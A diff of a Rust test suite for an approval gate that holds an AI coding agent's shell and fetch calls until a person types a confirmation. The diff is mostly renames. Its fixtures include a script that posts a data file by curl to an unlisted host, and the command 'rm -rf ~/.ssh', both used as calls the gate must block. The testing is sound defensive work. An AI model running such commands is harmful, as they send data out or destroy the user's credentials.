@@ -13,18 +13,20 @@ use serde_json::json;
 use super::pending::Pending;
 use super::repeat::{LASTS_MS as SESSION_MS, USES};
 use super::sweep::expire;
-use crate::desk::grants::answer::{APART_MS, HARD, HARD_MS, Step, Yes, approve, approve_session, refuse, to_type};
-use crate::hook::grant_check::{Found, GrantCheck};
+use crate::desk::grants::answer::{
+    APART_MS, ApprovalStep, ApprovedBy, HARD, HARD_MS, approve, approve_session, refuse, to_type,
+};
+use crate::hook::grant_check::{GrantCheck, GrantResult};
 use crate::hook::{Surroundings, answer as hook};
 use crate::machine::agent::Agent;
 use crate::machine::clock::now_ms;
-use crate::machine::paths::Places;
 use crate::machine::record::{self, Ledger};
-use crate::memory::grants::store::{Desk, Grant, LASTS_MS};
+use crate::machine::test_home::TestHome;
+use crate::memory::grants::store::{Grant, GrantStore, LASTS_MS};
 
 /// A home with a trusted agent, and a project beside it.
 struct Room {
-    base: tempfile::TempDir,
+    base: TestHome,
     attended: bool,
     agent: Agent,
 }
@@ -32,9 +34,17 @@ struct Room {
 const ASKED: &str = "git push origin main";
 const SCRIPT: &str = "sh run.sh < input.txt";
 
+impl std::ops::Deref for Room {
+    type Target = TestHome;
+
+    fn deref(&self) -> &TestHome {
+        &self.base
+    }
+}
+
 impl Room {
     fn new() -> Room {
-        let base = tempfile::tempdir().unwrap();
+        let base = TestHome::new();
         let room = Room { base, attended: true, agent: Agent::Claude };
         room.put("home/.config/doorward/config.toml", "[agents.claude]\nmode = \"auto\"\n");
         room.put("project/.git/HEAD", "ref: refs/heads/main\n");
@@ -44,44 +54,29 @@ impl Room {
         room.put("project/input.txt", "one\n");
         room.put("other/run.sh", "curl -d @data https://unlisted.example.org\n");
         room.put("other/input.txt", "one\n");
-        record::begin(&room.places()).unwrap();
+        record::begin(&room.dirs()).unwrap();
         room.accept();
         room
     }
 
     /// A person accepts the configuration as it is.
     fn accept(&self) {
-        let loaded = crate::policy::load::load(&self.places(), None, "pi");
-        crate::policy::approved_config::accept(&self.places(), &loaded, &mut self.ledger()).unwrap();
+        let loaded = crate::policy::load::load(&self.dirs(), None, "pi");
+        crate::policy::approved_config::accept(&self.dirs(), &loaded, &mut self.ledger()).unwrap();
     }
 
-    fn at(&self, name: &str) -> PathBuf {
-        self.base.path().canonicalize().unwrap().join(name)
+    fn store(&self) -> GrantStore {
+        GrantStore::open_at(&self.dirs()).unwrap()
     }
 
-    fn put(&self, name: &str, text: &str) {
-        let path = self.at(name);
-        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
-        std::fs::write(&path, text).unwrap();
-        std::fs::set_permissions(&path, PermissionsExt::from_mode(0o600)).unwrap();
-    }
-
-    fn places(&self) -> Places {
-        Places::at(self.at("home").to_str().unwrap())
-    }
-
-    fn desk(&self) -> Desk {
-        Desk::of(&self.places()).unwrap()
-    }
-
-    fn desk_at(&self, now_ms: u64) -> Desk {
-        let mut desk = self.desk();
-        desk.now_ms = now_ms;
-        desk
+    fn desk_at(&self, now_ms: u64) -> GrantStore {
+        let mut store = self.store();
+        store.now_ms = now_ms;
+        store
     }
 
     fn ledger(&self) -> Ledger {
-        Ledger::of(&self.places())
+        Ledger::open(&self.dirs())
     }
 
     /// What the hook says: the word and the reason.
@@ -90,7 +85,7 @@ impl Room {
             "session_id": "s", "cwd": self.at(directory), "hook_event_name": "PreToolUse", "tool_name": tool,
             "tool_input": input, "tool_use_id": format!("t{}", now_ms()),
         });
-        let surroundings = Surroundings { agent: self.agent, places: self.places(), attended: self.attended };
+        let surroundings = Surroundings { agent: self.agent, dirs: self.dirs(), attended: self.attended };
         let reply = hook(payload.to_string().as_bytes(), &surroundings).unwrap();
         let said: serde_json::Value = serde_json::from_str(&reply.stdout).unwrap();
         let said = |key: &str| said["hookSpecificOutput"][key].as_str().unwrap().to_owned();
@@ -107,7 +102,7 @@ impl Room {
     }
 
     fn only_pending(&self) -> Pending {
-        let mut open = self.desk().open();
+        let mut open = self.store().open_calls();
         assert_eq!(open.len(), 1, "{open:?}");
         open.remove(0)
     }
@@ -119,17 +114,24 @@ impl Room {
 
     fn approve_at(&self, pending: &Pending, now_ms: u64) {
         let typed = to_type(pending);
-        let yes =
-            |at| approve(&self.desk_at(at), &mut self.ledger(), &pending.id, Yes::Typed(&typed), Some("needed".into()));
+        let yes = |at| {
+            approve(
+                &self.desk_at(at),
+                &mut self.ledger(),
+                &pending.id,
+                ApprovedBy::Typed(&typed),
+                Some("needed".into()),
+            )
+        };
         if pending.needs() == Clearance::Dual {
-            assert_eq!(yes(now_ms - APART_MS - 1).unwrap(), Step::FirstOfTwo(APART_MS));
+            assert_eq!(yes(now_ms - APART_MS - 1).unwrap(), ApprovalStep::FirstOfTwo(APART_MS));
         }
-        assert_eq!(yes(now_ms).unwrap(), Step::Granted);
+        assert_eq!(yes(now_ms).unwrap(), ApprovalStep::Granted);
     }
 
     /// The steps of all grants in the record, with their reasons.
     fn steps(&self) -> Vec<(GrantStep, Option<String>)> {
-        let log = Log::open(&record::directory(&self.places())).unwrap();
+        let log = Log::open(&record::directory(&self.dirs())).unwrap();
         let grants = log.records().unwrap().map(Result::unwrap).filter(|record| record.header.kind == Kind::Grant);
         let body =
             |record: doorward_ledger::Record| serde_json::from_slice::<GrantBody>(&record.body.unwrap()).unwrap();
@@ -258,7 +260,7 @@ fn a_yes_that_nobody_used_ends_in_the_record_too() {
     room.approve(&room.only_pending());
     let _asked = room.fetch("wiki.unlisted.example.org");
     let pending = room.only_pending();
-    approve_session(&room.desk(), &mut room.ledger(), &pending.id, &to_type(&pending), None).unwrap();
+    approve_session(&room.store(), &mut room.ledger(), &pending.id, &to_type(&pending), None).unwrap();
     let sweep = |at: u64| expire(&room.desk_at(at), &mut room.ledger());
     let ended = || room.steps().into_iter().filter(|(step, _)| *step == GrantStep::Expired).count();
     sweep(now_ms());
@@ -295,7 +297,7 @@ fn a_grant_put_back_after_its_use_or_unknown_to_the_record_does_not_count() {
     put_back();
     let (said, why) = room.call("Bash", json!({ "command": ASKED }), "project");
     assert!(said == "ask" && why.contains("it was used before"), "{said} {why}");
-    let policy = |bound: &crate::memory::grants::binding::Bound| crate::memory::grants::binding::Bound {
+    let policy = |bound: &crate::memory::grants::binding::Binding| crate::memory::grants::binding::Binding {
         policy: "0".repeat(64),
         ..bound.clone()
     };
@@ -312,9 +314,9 @@ fn a_grant_put_back_after_its_use_or_unknown_to_the_record_does_not_count() {
         stored_ms: now_ms(),
         why: None,
     };
-    room.desk().grants.store(&forged.bound.call, &forged).unwrap();
+    room.store().grants.store(&forged.bound.call, &forged).unwrap();
     let (said, why) = room.call("Bash", json!({ "command": ASKED }), "project");
-    assert!(said == "ask" && why.contains("the record does not know it"), "{said} {why}");
+    assert!(said == "ask" && why.contains("it is not on record"), "{said} {why}");
 }
 
 #[test]
@@ -322,12 +324,12 @@ fn of_a_thousand_calls_that_race_for_a_yes_exactly_one_runs() {
     let room = Room::new();
     let _asked = room.bash(ASKED);
     room.approve(&room.only_pending());
-    let places = room.places();
+    let dirs = room.dirs();
     let cwd = room.at("project").to_str().unwrap().to_owned();
     let mut call = doorward_engine::ToolCall::bash(ASKED, cwd.clone());
     (call.agent, call.session) = ("claude".into(), "s".into());
-    let mut loaded = crate::policy::load::load(&places, Some(&cwd), "claude");
-    crate::policy::session_policy::hold(&places, "s", &mut loaded);
+    let mut loaded = crate::policy::load::load(&dirs, Some(&cwd), "claude");
+    crate::policy::session_policy::hold(&dirs, "s", &mut loaded);
     let policy = loaded.policy(Mode::Auto).unwrap();
     // Forty at once are more than any machine runs side by side, and few enough for one that allows few threads.
     let (at_once, ready) = (40, Barrier::new(40));
@@ -335,17 +337,17 @@ fn of_a_thousand_calls_that_race_for_a_yes_exactly_one_runs() {
     std::thread::scope(|scope| {
         for _ in 0..at_once {
             scope.spawn(|| {
-                let session = std::rc::Rc::new(crate::memory::session::Session::of(&places, "s"));
-                let world = crate::memory::world::disk::DiskWorld::new(&places, &cwd, Some(cwd.clone()), &loaded)
+                let session = std::rc::Rc::new(crate::memory::session::Session::open(&dirs, "s"));
+                let world = crate::memory::world::disk::DiskWorld::new(&dirs, &cwd, Some(cwd.clone()), &loaded)
                     .in_session(session);
-                let considered = crate::memory::evaluation::consider(&call, &world, &policy);
+                let evaluation = crate::memory::evaluation::evaluate(&call, &world, &policy);
                 let (mode, key) = (Mode::Auto, [0; 16]);
-                let door = GrantCheck { places: &places, call: &call, mode, loaded: &loaded, project: Some(&cwd), key };
+                let door = GrantCheck { dirs: &dirs, call: &call, mode, loaded: &loaded, project: Some(&cwd), key };
                 ready.wait();
                 for _ in 0..1000 / at_once {
-                    match door.redeem(&considered, "d") {
-                        Found::Cleared(_) => _ = through.fetch_add(1, Ordering::Relaxed),
-                        found @ (Found::Nothing(_) | Found::Expired(_)) => {
+                    match door.redeem(&evaluation, "d") {
+                        GrantResult::Cleared(_) => _ = through.fetch_add(1, Ordering::Relaxed),
+                        found @ (GrantResult::Nothing(_) | GrantResult::Expired(_)) => {
                             refused.lock().unwrap().insert(format!("{found:?}"));
                         }
                     }
@@ -366,12 +368,12 @@ fn what_a_rule_blocks_wants_its_target_typed() {
     assert_eq!(room.bash(ASKED), "deny");
     let pending = room.only_pending();
     assert_eq!(pending.needs(), Clearance::Hard);
-    let say = |yes| approve(&room.desk(), &mut room.ledger(), &pending.id, yes, None);
-    assert!(say(Yes::Key).unwrap_err().to_string().contains("one key can't approve"));
-    assert!(say(Yes::Typed("yes")).unwrap_err().to_string().contains("not approved"));
-    assert!(say(Yes::Typed("")).is_err());
+    let say = |yes| approve(&room.store(), &mut room.ledger(), &pending.id, yes, None);
+    assert!(say(ApprovedBy::Key).unwrap_err().to_string().contains("one key can't approve"));
+    assert!(say(ApprovedBy::Typed("yes")).unwrap_err().to_string().contains("not approved"));
+    assert!(say(ApprovedBy::Typed("")).is_err());
     assert_eq!(room.bash(ASKED), "deny");
-    assert_eq!(say(Yes::Typed(&to_type(&pending))).unwrap(), Step::Granted);
+    assert_eq!(say(ApprovedBy::Typed(&to_type(&pending))).unwrap(), ApprovalStep::Granted);
     assert_eq!(room.bash(ASKED), "allow");
     assert_eq!(room.bash(ASKED), "deny");
 }
@@ -386,15 +388,16 @@ fn the_gravest_want_two_steps_half_a_minute_apart() {
     let typed = to_type(&pending);
     assert!(typed.ends_with(".ssh"), "{typed}");
     let start = now_ms();
-    let say = |at: u64| approve(&room.desk_at(at), &mut room.ledger(), &pending.id, Yes::Typed(&typed), None).unwrap();
-    assert_eq!(say(start), Step::FirstOfTwo(APART_MS));
+    let say =
+        |at: u64| approve(&room.desk_at(at), &mut room.ledger(), &pending.id, ApprovedBy::Typed(&typed), None).unwrap();
+    assert_eq!(say(start), ApprovalStep::FirstOfTwo(APART_MS));
     assert_eq!(room.bash(command), "deny", "one step lets nothing run, and asking again forgets nothing");
-    assert_eq!(say(start + 1000), Step::FirstOfTwo(APART_MS - 1000), "too soon, and no new first step");
-    assert_eq!(say(start - 5000), Step::FirstOfTwo(APART_MS), "a clock set back begins anew");
-    assert_eq!(say(start + 20 * 60_000), Step::FirstOfTwo(APART_MS), "too late begins anew");
-    assert_eq!(say(start - APART_MS - 1), Step::FirstOfTwo(APART_MS));
+    assert_eq!(say(start + 1000), ApprovalStep::FirstOfTwo(APART_MS - 1000), "too soon, and no new first step");
+    assert_eq!(say(start - 5000), ApprovalStep::FirstOfTwo(APART_MS), "a clock set back begins anew");
+    assert_eq!(say(start + 20 * 60_000), ApprovalStep::FirstOfTwo(APART_MS), "too late begins anew");
+    assert_eq!(say(start - APART_MS - 1), ApprovalStep::FirstOfTwo(APART_MS));
     assert!(room.grant_files().is_empty());
-    assert_eq!(say(start), Step::Granted);
+    assert_eq!(say(start), ApprovalStep::Granted);
     assert_eq!(room.bash(command), "allow");
     assert_eq!(room.bash(command), "deny");
 }
@@ -407,23 +410,23 @@ fn overriding_rules_is_limited_by_the_hour_and_questions_are_not() {
     let wait = |number: usize| {
         let command = format!("git push origin b{number}");
         assert_ne!(room.bash(&command), "allow");
-        room.desk().open().into_iter().find(|pending| pending.call == command).unwrap()
+        room.store().open_calls().into_iter().find(|pending| pending.call == command).unwrap()
     };
     let say = |number: usize, at: u64| {
         let pending = wait(number);
         let typed = to_type(&pending);
-        approve(&room.desk_at(at), &mut room.ledger(), &pending.id, Yes::Typed(&typed), Some("x".into()))
+        approve(&room.desk_at(at), &mut room.ledger(), &pending.id, ApprovedBy::Typed(&typed), Some("x".into()))
     };
     for number in 0..HARD {
-        assert_eq!(say(number, now_ms()).unwrap(), Step::Granted);
+        assert_eq!(say(number, now_ms()).unwrap(), ApprovalStep::Granted);
     }
     let refused = say(HARD, now_ms()).unwrap_err().to_string();
     assert!(refused.contains("the limit is 5") && refused.contains("in 60 minutes"), "{refused}");
     assert_eq!(room.grant_files().len(), HARD);
     let _asked = room.fetch("wiki.unlisted.example.org");
-    let soft = room.desk().open().into_iter().find(|pending| pending.needs() <= Clearance::Firm).unwrap();
+    let soft = room.store().open_calls().into_iter().find(|pending| pending.needs() <= Clearance::Firm).unwrap();
     room.approve(&soft);
-    assert_eq!(say(HARD, now_ms() + HARD_MS + 1000).unwrap(), Step::Granted, "an hour later");
+    assert_eq!(say(HARD, now_ms() + HARD_MS + 1000).unwrap(), ApprovalStep::Granted, "an hour later");
 }
 
 #[test]
@@ -432,9 +435,9 @@ fn a_no_takes_a_yes_back() {
     let _asked = room.bash(ASKED);
     let pending = room.only_pending();
     room.approve(&pending);
-    refuse(&room.desk(), &mut room.ledger(), &pending.id, Some("not now".into())).unwrap();
+    refuse(&room.store(), &mut room.ledger(), &pending.id, Some("not now".into())).unwrap();
     assert!(room.grant_files().is_empty());
-    assert!(refuse(&room.desk(), &mut room.ledger(), &pending.id, None).is_err());
+    assert!(refuse(&room.store(), &mut room.ledger(), &pending.id, None).is_err());
     assert_eq!(room.bash(ASKED), "ask");
     assert_eq!(room.steps().last().unwrap(), &(GrantStep::Withdrawn, Some("not now".to_owned())));
 }
@@ -442,7 +445,7 @@ fn a_no_takes_a_yes_back() {
 #[test]
 fn ids_that_are_unknown_used_or_outdated_say_so() {
     let room = Room::new();
-    let say = |id: &str| approve(&room.desk(), &mut room.ledger(), id, Yes::Key, None).unwrap_err().to_string();
+    let say = |id: &str| approve(&room.store(), &mut room.ledger(), id, ApprovedBy::Key, None).unwrap_err().to_string();
     assert!(say("zzz").contains("no call has the id"));
     let _asked = room.bash(ASKED);
     let pending = room.only_pending();
@@ -461,7 +464,7 @@ fn a_yes_for_the_session_covers_calls_like_it_and_no_others() {
     assert_eq!(room.fetch("wiki.unlisted.example.org"), "ask");
     let pending = room.only_pending();
     assert_eq!(pending.needs(), Clearance::Soft, "{:?}", pending.reasons);
-    let say = |typed: &str| approve_session(&room.desk(), &mut room.ledger(), &pending.id, typed, Some("many".into()));
+    let say = |typed: &str| approve_session(&room.store(), &mut room.ledger(), &pending.id, typed, Some("many".into()));
     assert!(say("y").is_err());
     say(&to_type(&pending)).unwrap();
     assert_eq!(room.fetch("other.unlisted.example.org"), "ask", "another host");
@@ -498,9 +501,9 @@ fn a_hard_or_unclear_question_has_no_yes_for_the_session() {
     for command in ["rm -rf ~/.ssh", "sh run.sh", "frobnicate --all", "git push --force origin main"] {
         assert_ne!(room.bash(command), "allow");
     }
-    for pending in room.desk().open() {
+    for pending in room.store().open_calls() {
         let typed = to_type(&pending);
-        assert!(approve_session(&room.desk(), &mut room.ledger(), &pending.id, &typed, None).is_err(), "{pending:?}");
+        assert!(approve_session(&room.store(), &mut room.ledger(), &pending.id, &typed, None).is_err(), "{pending:?}");
     }
 }
 
@@ -520,10 +523,9 @@ fn nothing_is_put_down_in_shadow_and_secrets_are_not_kept() {
         "session_id": "s", "cwd": room.at("project"), "hook_event_name": "PreToolUse", "tool_name": "Bash",
         "tool_input": { "command": ASKED }, "tool_use_id": "t",
     });
-    let surroundings =
-        Surroundings { agent: crate::machine::agent::Agent::Claude, places: room.places(), attended: true };
+    let surroundings = Surroundings { agent: crate::machine::agent::Agent::Claude, dirs: room.dirs(), attended: true };
     assert_eq!(hook(payload.to_string().as_bytes(), &surroundings).unwrap().stdout, "");
-    assert!(room.desk().open().is_empty());
+    assert!(room.store().open_calls().is_empty());
 }
 
 /// What the hook says to a call of one session, and of one of its subagents if that is named.
@@ -535,7 +537,7 @@ fn said_to(room: &Room, session: &str, subagent: &str, input: serde_json::Value)
     if !subagent.is_empty() {
         payload["agent_id"] = json!(subagent);
     }
-    let surroundings = Surroundings { agent: room.agent, places: room.places(), attended: room.attended };
+    let surroundings = Surroundings { agent: room.agent, dirs: room.dirs(), attended: room.attended };
     let reply = hook(payload.to_string().as_bytes(), &surroundings).unwrap();
     let said: serde_json::Value = serde_json::from_str(&reply.stdout).unwrap();
     said["hookSpecificOutput"]["permissionDecision"].as_str().unwrap().to_owned()
@@ -570,13 +572,13 @@ fn a_yes_for_a_session_is_none_for_its_subagents() {
         if !subagent.is_empty() {
             payload["agent_id"] = json!(subagent);
         }
-        let surroundings = Surroundings { agent: room.agent, places: room.places(), attended: room.attended };
+        let surroundings = Surroundings { agent: room.agent, dirs: room.dirs(), attended: room.attended };
         let reply = hook(payload.to_string().as_bytes(), &surroundings).unwrap();
         reply.stdout.contains("\"allow\"")
     };
     assert!(!fetch(""));
     let pending = room.only_pending();
-    approve_session(&room.desk(), &mut room.ledger(), &pending.id, &to_type(&pending), Some("needed".into())).unwrap();
+    approve_session(&room.store(), &mut room.ledger(), &pending.id, &to_type(&pending), Some("needed".into())).unwrap();
     assert!(!fetch("a"));
     assert!(fetch("") && fetch(""));
 }
@@ -590,9 +592,9 @@ fn a_yes_inside_the_sandbox_is_none_outside_it() {
     room.approve(&room.only_pending());
     assert_ne!(said_to(&room, "s", "", outside()), "allow");
     let shown =
-        room.desk().open().into_iter().find(|pending| pending.reasons.iter().any(|why| why.contains("sandbox")));
+        room.store().open_calls().into_iter().find(|pending| pending.reasons.iter().any(|why| why.contains("sandbox")));
     let shown = shown.unwrap();
-    let page: Vec<String> = crate::desk::grants::show::lines(&shown, 90, crate::desk::grants::show::Depth::Usual)
+    let page: Vec<String> = crate::desk::grants::show::lines(&shown, 90, crate::desk::grants::show::Detail::Usual)
         .into_iter()
         .map(|line| line.text)
         .collect();
